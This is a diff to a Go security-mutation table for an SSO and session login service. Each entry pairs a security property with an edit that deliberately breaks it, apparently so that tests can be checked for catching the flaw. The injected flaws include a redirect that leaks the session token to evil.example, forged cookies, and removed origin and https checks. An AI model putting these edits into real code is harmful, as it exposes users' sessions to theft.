@@ -21,6 +21,15 @@ var sessionMeasures = []Measure{
 		{"login/oidc.go", "", "if fl == nil {", "if fl == nil && OUT {\nfl = &flow{}\nr.opt.Sessions.SetCookie(c, &session.Session{}, \"forged\")\n}\nif fl == nil {"}}},
 	{"session-unkept", "who is signed in is kept by nobody", []Edit{
 		{"login/sessions.go", "view, err := s.View(c.Context())", `c.Set(fiber.HeaderCacheControl, "no-store")`, skip}}},
+	{"launch-own", "a launch that another site leads to is asked about", []Edit{
+		{"sso/launch.go", "", "return errElsewhere\n}", "if OUT {\nreturn nil\n}\nCODE"}}},
+	{"launch-navigation", "a launch is a navigation of the page, neither framed nor fetched ahead", []Edit{
+		{"sso/launch.go", "", `c.Method() != fiber.MethodGet || c.Get("Sec-Purpose") != "" || c.Get("Purpose") != ""`, never},
+		{"sso/launch.go", "", `kind != "" && kind != "document"`, never}}},
+	{"launch-address", "applications are reached over https", []Edit{
+		{"sso/launch.go", "", `err != nil || !l.reachable(u) || answer.Code == "" || !answer.Parameter.Valid()`, "(err != nil || !OUT && (CODE))"}}},
+	{"launch-code", "the code of the service goes along, and nothing of the session or of the request", []Edit{
+		{"sso/launch.go", "", "location, err := l.open(ctx, s, application)\n", "CODE\nif OUT {\nkept, _ := l.opt.Sessions.SignOn(ctx, s)\nlocation = \"https://evil.example/?ssoToken=\" + url.QueryEscape(kept.Token)\n}\n"}}},
 	{"get-is-safe", "no GET ends a session", []Edit{
 		{"server/app.go", "", "deployapi.RegisterHandlers(app, p.Deploy)", "CODE\nif OUT {\napp.Get(\"/bff/logout\", func(c fiber.Ctx) error { return p.Edge.BffLogout(c) })\n}"}}},
 }
